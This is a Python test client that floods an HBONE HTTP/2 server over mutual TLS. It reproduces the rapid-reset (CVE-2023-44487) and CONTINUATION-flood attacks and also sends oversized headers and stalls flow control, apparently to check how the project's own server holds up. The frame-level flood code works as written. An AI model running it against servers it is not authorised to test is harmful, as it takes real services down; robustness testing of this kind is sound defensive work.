#!/usr/bin/env python3
"""HTTP/2 abuse client for an HBONE server (ringtun's 15008): mutual TLS 1.3 with a valid client
certificate, then raw HTTP/2 frames (hyperframe + hpack, no h2 state machine) so that it can break
the rules on purpose.

Modes (--mode):

  rapid-reset   HEADERS (CONNECT --authority) immediately followed by RST_STREAM(CANCEL), on
                --count new streams, as fast as the connection takes them (CVE-2023-44487).
  continuation  HEADERS without END_HEADERS, then CONTINUATION frames of --frame-size bytes
                (never END_HEADERS) until --count frames are sent or the server hangs up
                (the "CONTINUATION flood", CVE-2024-27316 and friends).
  big-headers   one CONNECT whose header block is --header-bytes large (split into HEADERS +
                CONTINUATION frames within the server's SETTINGS_MAX_FRAME_SIZE).
  stall         one CONNECT with huge flow-control windows; after the 200 it stops reading the
                socket for --hold seconds (the server can only buffer or stop), then reads for
                --resume seconds and counts what arrives.

Prints JSON lines on stdout, the last one {"event": "result", ...} with what the server did:
"goaway" ({"error_code", "last_stream_id"} or null), "closed" (the connection ended: EOF, reset
or a failed write), "rst" (RST_STREAM codes received by stream), "statuses" (response :status by
stream), frame and byte counts, "elapsed" seconds.

Exit codes: 0 the run finished (whatever the server did: the caller judges the result); 1 usage
error; 2 TCP connect failed; 3 TLS handshake failed.
"""

import argparse
import asyncio
import ssl
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

sys.dont_write_bytecode = True

from hbone_common import emit, parse_hostport, tls_context  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
DEFAULT_FRAME_SIZE = 16384
# Largest flow-control window HTTP/2 allows.
MAX_WINDOW = 2**31 - 1


class Peer:
    """The TLS connection, a frame reader task and what the server has done so far."""

    def __init__(self, reader, writer):
        self.reader = reader
        self.writer = writer
        self.decoder = hpack.Decoder()
        self.encoder = hpack.Encoder()
        self.goaway = None
        self.closed = None
        self.rst = {}
        self.statuses = {}
        self.settings = {}
        self.settings_seen = asyncio.Event()
        self.ended = asyncio.Event()
        self.response = asyncio.Event()
        self.frames_received = 0
        self.data_received = 0
        self.bytes_sent = 0
        # While set, the reader task reads; cleared, it leaves the socket alone.
        self.reading = asyncio.Event()
        self.reading.set()
        self.ack_data = False

    def write(self, data):
        self.writer.write(data)
        self.bytes_sent += len(data)

    async def flush(self):
        await self.writer.drain()

    def _end(self, why):
        if self.closed is None:
            self.closed = why
        self.ended.set()
        self.response.set()
        self.settings_seen.set()

    async def read_loop(self):
        buf = bytearray()
        while True:
            await self.reading.wait()
            try:
                chunk = await self.reader.read(256 * 1024)
            except (ssl.SSLError, ConnectionError, OSError) as e:
                self._end(f"read error: {e!r}")
                return
            if not chunk:
                self._end("eof")
                return
            buf += chunk
            while len(buf) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(bytes(buf[:9])))
                if len(buf) < 9 + length:
                    break
                frame.parse_body(memoryview(bytes(buf[9 : 9 + length])))
                del buf[: 9 + length]
                self.frames_received += 1
                self._on_frame(frame, length)

    def _on_frame(self, frame, length):
        if isinstance(frame, SettingsFrame):
            if "ACK" not in frame.flags:
                self.settings.update(frame.settings)
                ack = SettingsFrame(0)
                ack.flags.add("ACK")
                self.write(ack.serialize())
                self.settings_seen.set()
        elif isinstance(frame, PingFrame):
            if "ACK" not in frame.flags:
                pong = PingFrame(0)
                pong.flags.add("ACK")
                pong.opaque_data = frame.opaque_data
                self.write(pong.serialize())
        elif isinstance(frame, GoAwayFrame):
            self.goaway = {
                "error_code": frame.error_code,
                "last_stream_id": frame.last_stream_id,
                "debug": frame.additional_data.decode("utf-8", "replace"),
            }
            self.ended.set()
            self.response.set()
        elif isinstance(frame, RstStreamFrame):
            self.rst[str(frame.stream_id)] = frame.error_code
            self.response.set()
        elif isinstance(frame, HeadersFrame):
            try:
                headers = self.decoder.decode(frame.data)
            except hpack.HPACKError as e:
                headers = [(":status", f"undecodable: {e!r}")]
            for k, v in headers:
                k = k.decode() if isinstance(k, bytes) else k
                v = v.decode() if isinstance(v, bytes) else v
                if k == ":status":
                    self.statuses[str(frame.stream_id)] = int(v) if v.isdigit() else v
            self.response.set()
        elif isinstance(frame, DataFrame):
            self.data_received += len(frame.data)
            if self.ack_data and length:
                # Give back the window at once: only TCP back-pressure may slow the server.
                for sid in (0, frame.stream_id):
                    wu = WindowUpdateFrame(sid)
                    wu.window_increment = length
                    self.write(wu.serialize())

    def connect_block(self, authority, extra=()):
        headers = [(":method", "CONNECT"), (":authority", authority)]
        headers += [hpack.NeverIndexedHeaderTuple(k, v) for k, v in extra]
        return self.encoder.encode(headers)

    def result(self, mode, started, **more):
        out = {
            "event": "result",
            "mode": mode,
            "goaway": self.goaway,
            "closed": self.closed,
            "rst": self.rst,
            "statuses": self.statuses,
            "frames_received": self.frames_received,
            "data_received": self.data_received,
            "bytes_sent": self.bytes_sent,
            "elapsed": round(time.monotonic() - started, 3),
        }
        out.update(more)
        return out


async def open_peer(args):
    host, port = parse_hostport(args.connect, 15008)
    ctx = tls_context(False, args.cert, args.key, args.ca)
    try:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(host, port, ssl=ctx, server_hostname=None), args.timeout
        )
    except (ssl.SSLError, asyncio.TimeoutError) as e:
        emit({"event": "error", "kind": "tls", "detail": repr(e)})
        sys.exit(3)
    except OSError as e:
        emit({"event": "error", "kind": "connect", "detail": repr(e)})
        sys.exit(2)
    tls = writer.get_extra_info("ssl_object")
    emit({"event": "tls", "version": tls.version(), "alpn": tls.selected_alpn_protocol()})
    peer = Peer(reader, writer)
    settings = SettingsFrame(0)
    if args.mode == "stall":
        settings.settings = {
            SettingsFrame.INITIAL_WINDOW_SIZE: MAX_WINDOW,
            SettingsFrame.MAX_FRAME_SIZE: 1 << 20,
        }
    peer.write(PREFACE + settings.serialize())
    if args.mode == "stall":
        wu = WindowUpdateFrame(0)
        wu.window_increment = MAX_WINDOW - 65535
        peer.write(wu.serialize())
    await peer.flush()
    peer.task = asyncio.create_task(peer.read_loop())
    try:
        await asyncio.wait_for(peer.settings_seen.wait(), args.timeout)
    except asyncio.TimeoutError:
        pass
    return peer


async def write_or_close(peer, data):
    """Writes and waits for the transport; False once the server has hung up."""
    if peer.closed is not None:
        return False
    try:
        peer.write(data)
        await peer.flush()
    except (ssl.SSLError, ConnectionError, OSError) as e:
        peer._end(f"write error: {e!r}")
        return False
    return True


async def linger(peer, seconds):
    """Waits up to `seconds` for the server to hang up (GOAWAY or close)."""
    try:
        await asyncio.wait_for(peer.ended.wait(), seconds)
    except asyncio.TimeoutError:
        pass


async def rapid_reset(args, peer, started):
    sid = 1
    sent = 0
    while sent < args.count and peer.closed is None and peer.goaway is None:
        batch = bytearray()
        for _ in range(min(100, args.count - sent)):
            hf = HeadersFrame(sid)
            hf.flags.add("END_HEADERS")
            hf.data = peer.connect_block(args.authority)
            rf = RstStreamFrame(sid)
            rf.error_code = CANCEL
            batch += hf.serialize() + rf.serialize()
            sid += 2
            sent += 1
        if not await write_or_close(peer, bytes(batch)):
            break
    streams_done = time.monotonic() - started
    await linger(peer, args.linger)
    return peer.result("rapid-reset", started, streams_sent=sent, flood_seconds=streams_done)


async def continuation(args, peer, started):
    hf = HeadersFrame(1)
    hf.data = peer.connect_block(args.authority)
    sent = 0
    if await write_or_close(peer, hf.serialize()):
        # A run of literal header fields, never indexed, so that the header list grows with
        # every frame; cut into frames at arbitrary points as a header block may be.
        field = hpack.Encoder().encode(
            [hpack.NeverIndexedHeaderTuple("x-flood", "a" * 200)], huffman=False
        )
        block = (field * (args.frame_size // len(field) + 1))[: args.frame_size]
        frame = ContinuationFrame(1)
        frame.data = block
        raw = frame.serialize()
        per_batch = max(1, (256 * 1024) // len(raw))
        while sent < args.count and peer.closed is None and peer.goaway is None:
            n = min(per_batch, args.count - sent)
            if not await write_or_close(peer, raw * n):
                break
            sent += n
    await linger(peer, args.linger)
    return peer.result("continuation", started, continuation_frames_sent=sent)


async def big_headers(args, peer, started):
    max_frame = min(peer.settings.get(SettingsFrame.MAX_FRAME_SIZE, DEFAULT_FRAME_SIZE), 16384)
    block = peer.connect_block(args.authority, [("x-big", "b" * args.header_bytes)])
    chunks = [block[i : i + max_frame] for i in range(0, len(block), max_frame)]
    frames = bytearray()
    for i, chunk in enumerate(chunks):
        f = HeadersFrame(1) if i == 0 else ContinuationFrame(1)
        f.data = chunk
        if i == len(chunks) - 1:
            f.flags.add("END_HEADERS")
        frames += f.serialize()
    await write_or_close(peer, bytes(frames))
    try:
        await asyncio.wait_for(peer.response.wait(), args.linger)
    except asyncio.TimeoutError:
        pass
    # Whatever else the server does right after (GOAWAY, close) shows in a short while.
    await asyncio.sleep(0.5)
    return peer.result(
        "big-headers", started, header_block_bytes=len(block), frames_sent=len(chunks)
    )


async def stall(args, peer, started):
    hf = HeadersFrame(1)
    hf.flags.add("END_HEADERS")
    hf.data = peer.connect_block(args.authority)
    await write_or_close(peer, hf.serialize())
    try:
        await asyncio.wait_for(peer.response.wait(), args.timeout)
    except asyncio.TimeoutError:
        pass
    status = peer.statuses.get("1")
    emit({"event": "response", "status": status})
    if status != 200:
        return peer.result("stall", started, before_stall=0, after_resume=0)
    peer.ack_data = True
    # Stop reading: the server's TLS writes fill the socket buffers and then block.
    peer.reading.clear()
    before = peer.data_received
    emit({"event": "stalled", "data_received": before})
    await asyncio.sleep(args.hold)
    stalled_at = peer.data_received
    peer.reading.set()
    emit({"event": "resumed", "data_received": stalled_at})
    await asyncio.sleep(args.resume)
    return peer.result(
        "stall",
        started,
        before_stall=before,
        during_stall=stalled_at - before,
        after_resume=peer.data_received - stalled_at,
    )


MODES = {
    "rapid-reset": rapid_reset,
    "continuation": continuation,
    "big-headers": big_headers,
    "stall": stall,
}


async def run(args):
    started = time.monotonic()
    peer = await open_peer(args)
    try:
        return await MODES[args.mode](args, peer, started)
    finally:
        peer.task.cancel()
        try:
            peer.writer.close()
        except (ssl.SSLError, ConnectionError, OSError):
            pass


def main():
    p = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    p.add_argument("--mode", required=True, choices=sorted(MODES))
    p.add_argument("--connect", required=True, help="HOST:PORT of the HBONE server")
    p.add_argument("--cert", required=True, help="client certificate chain (PEM)")
    p.add_argument("--key", required=True, help="client private key (PEM)")
    p.add_argument("--ca", required=True, help="CA bundle to verify the server (PEM)")
    p.add_argument("--authority", required=True, help="CONNECT :authority, e.g. 10.77.0.2:5201")
    p.add_argument("--count", type=int, default=20000, help="streams or CONTINUATION frames")
    p.add_argument("--frame-size", type=int, default=4096, help="CONTINUATION payload bytes")
    p.add_argument("--header-bytes", type=int, default=20000, help="big-headers value size")
    p.add_argument("--hold", type=float, default=4.0, help="stall: seconds without reading")
    p.add_argument("--resume", type=float, default=2.0, help="stall: seconds reading after")
    p.add_argument(
        "--linger", type=float, default=5.0, help="seconds to wait for the server's reaction"
    )
    p.add_argument("--timeout", type=float, default=10.0, help="connect/handshake timeout")
    args = p.parse_args()
    result = asyncio.run(run(args))
    emit(result)
    sys.exit(0)


if __name__ == "__main__":
    main()
